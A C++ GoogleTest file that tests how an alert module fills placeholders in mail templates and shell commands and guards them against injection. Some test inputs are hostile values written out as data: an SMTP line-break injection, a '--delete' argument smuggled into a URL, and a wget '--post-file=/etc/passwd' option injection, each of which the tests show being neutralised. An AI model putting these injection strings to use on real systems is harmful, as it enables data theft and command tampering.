// SPDX-License-Identifier: MIT
#include "alerts/alert_facts.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "base/command_line.h"
#include "support/hand_clock.h"

namespace tarnwick {
namespace {

using ::testing::ElementsAre;
using testing::HandClock;

/// A clock that goes on by a second each time it is read.
class TickingClock final : public Clock {
 public:
  LocalTime localNow() const override { return now_ += std::chrono::seconds(1); }
  std::chrono::milliseconds steadyNow() const override { return {}; }

 private:
  mutable LocalTime now_ = HandClock::at("2024-05-17 12:00:00");
};

const AlertFacts kFacts = {"http://example.com/", "12", "you@example.com", "watcher", "10.1.2.3"};

std::string filled(const std::string& text, const AlertFacts& facts = kFacts) {
  return fillTemplate(text, facts, HandClock(HandClock::at("2024-05-17 12:00:30")));
}

std::string filledCommand(const std::string& text, const AlertFacts& facts = kFacts) {
  return fillCommand(text, facts, HandClock(HandClock::at("2024-05-17 12:00:30")));
}

TEST(AlertFacts, FillEveryPlaceholderOfATemplate) {
  EXPECT_EQ(filled("~date~|~url~|~idsite~|~email~|~localhostname~|~localip~"),
            "2024-05-17 12:00:30|http://example.com/|12|you@example.com|watcher|10.1.2.3");
}

TEST(AlertFacts, BringNoLineEndAndNoNulIntoAMail) {
  using namespace std::string_literals;
  const AlertFacts odd = {"http://a/\r\n.\r\nMAIL FROM:<x@y.zz>"s, "1\n2"s, "a@b.cd\r"s, "host\0name"s, "10.\n1"s};
  EXPECT_EQ(filled("~url~|~idsite~|~email~|~localhostname~|~localip~\r\n", odd),
            "http://a/.MAIL FROM:<x@y.zz>|12|a@b.cd|hostname|10.1\r\n");
}

TEST(AlertFacts, FillEveryOccurrence) { EXPECT_EQ(filled("~idsite~~idsite~ ~idsite~"), "1212 12"); }

TEST(AlertFacts, LeaveATextWithoutPlaceholdersAlone) {
  EXPECT_EQ(filled(""), "");
  EXPECT_EQ(filled("a ~ tilde, 100 %, ~nothing~"), "a ~ tilde, 100 %, ~nothing~");
}

TEST(AlertFacts, AreNotFilledInForAnotherLetterCase) {
  EXPECT_EQ(filled("~URL~ ~Url~ ~url~"), "~URL~ ~Url~ http://example.com/");
}

TEST(AlertFacts, NumbersArePlaceholdersOfCommandsOnly) {
  EXPECT_EQ(filled("~1~ ~2~ ~3~ ~4~ ~5~ ~6~"), "~1~ ~2~ ~3~ ~4~ ~5~ ~6~");
  EXPECT_EQ(filledCommand("~1~|~2~|~3~|~4~|~5~|~6~|~7~"),
            "2024-05-17 12:00:30|http://example.com/|12|you@example.com|watcher|10.1.2.3|~7~");
  EXPECT_EQ(filledCommand("~date~ ~url~ ~idsite~ ~email~ ~localhostname~ ~localip~"),
            "2024-05-17 12:00:30 http://example.com/ 12 you@example.com watcher 10.1.2.3");
}

TEST(AlertFacts, AValueIsSubjectToTheReplacementsThatFollow) {
  AlertFacts facts = kFacts;
  facts.url = "http://example.com/~email~/~date~/~1~";
  EXPECT_EQ(filled("~url~", facts), "http://example.com/you@example.com/~date~/~1~");
  EXPECT_EQ(filledCommand("~url~", facts), "http://example.com/you@example.com/~date~/2024-05-17%2012:00:30");
  facts.email = "~url~";
  EXPECT_EQ(filled("~email~", facts), "~url~");
  EXPECT_EQ(filledCommand("~4~", facts), "~url~");
}

TEST(AlertFacts, AValueThatIsItsOwnPlaceholderIsPutInOnce) {
  AlertFacts facts = kFacts;
  facts.url = "~url~~url~";
  EXPECT_EQ(filled("<~url~>", facts), "<~url~~url~>");
}

TEST(AlertFacts, APlaceholderMadeOfTwoValuesIsFilledIn) {
  AlertFacts facts = kFacts;
  facts.url = "~ema";
  facts.idSite = "il~";
  EXPECT_EQ(filled("~url~~idsite~", facts), "you@example.com");
}

TEST(AlertFacts, TheClockIsReadAgainForTheShortFormOfTheDate) {
  EXPECT_EQ(fillCommand("~date~|~1~|~date~", kFacts, TickingClock()),
            "2024-05-17 12:00:01|2024-05-17 12:00:02|2024-05-17 12:00:01");
}

TEST(AlertFacts, QuotesOfValuesDoNotSplitAQuotedArgument) {
  AlertFacts facts = kFacts;
  facts.url = "http://example.com/\" --delete \"";
  const std::string fetched = "http://example.com/\"%20--delete%20\"";
  EXPECT_THAT(splitCommandLine(filledCommand("prog \"~url~\" \"~2~\" end", facts)),
              ElementsAre("prog", fetched, fetched, "end"));
  EXPECT_EQ(filled("\"~url~\"", facts), "\"" + facts.url + "\"");
}

TEST(AlertFacts, AnUnquotedBlankOfAValueSplits) {
  EXPECT_THAT(splitCommandLine(filledCommand("prog ~date~ \"~date~\"")),
              ElementsAre("prog", "2024-05-17", "12:00:30", "2024-05-17 12:00:30"));
}

TEST(AlertFacts, AnAddressIsOneArgumentOfAProgramAndNoOption) {
  AlertFacts facts = kFacts;
  const auto arguments = [&](const std::string& url) {
    facts.url = url;
    return splitCommandLine(filledCommand("wget ~url~ ~2~ \"~url~\"", facts));
  };
  const std::string both = "http://--post-file=/etc/passwd%20http://me.test/";
  EXPECT_THAT(arguments("--post-file=/etc/passwd http://me.test/"), ElementsAre("wget", both, both, both));
  const std::string indented = "http://-O%09x%0D%0Ay";
  EXPECT_THAT(arguments(" \t-O\tx\r\ny "), ElementsAre("wget", indented, indented, indented));
  const std::string ordinary = "http://a.test/b?c=d%20e&f=-g";
  EXPECT_THAT(arguments(ordinary), ElementsAre("wget", ordinary, ordinary, ordinary));
  EXPECT_EQ(filled("~url~", facts), facts.url);
}

TEST(AlertFacts, WhatAnAddressBringsInStaysInItsArgument) {
  AlertFacts facts = kFacts;
  facts.email = "~email~ --post-file=/etc/passwd";
  facts.url = "http://a.test/~email~";
  const std::vector<std::string> all = splitCommandLine(filledCommand("wget ~url~ \"~url~\" end", facts));
  ASSERT_EQ(all.size(), 4U);
  EXPECT_THAT(all[1], ::testing::StartsWith("http://a.test/"));
  EXPECT_EQ(all[2], all[1]);
  facts.email = "--post-file=/etc/passwd x";
  facts.url = "~email~";
  EXPECT_THAT(splitCommandLine(filledCommand("wget ~url~", facts)),
              ElementsAre("wget", "http://--post-file=/etc/passwd%20x"));
  facts.url = "http://a.test/~4~/~2~";
  EXPECT_THAT(splitCommandLine(filledCommand("wget ~url~", facts)),
              ElementsAre("wget", ::testing::StartsWith("http://a.test/")));
}

TEST(AlertFacts, AnEmptyValueBetweenQuotesIsAnEmptyArgument) {
  AlertFacts facts = kFacts;
  facts.url = "";
  EXPECT_THAT(splitCommandLine(filledCommand("prog \"~url~\" ~url~ end", facts)), ElementsAre("prog", "", "end"));
}

}  // namespace
}  // namespace tarnwick
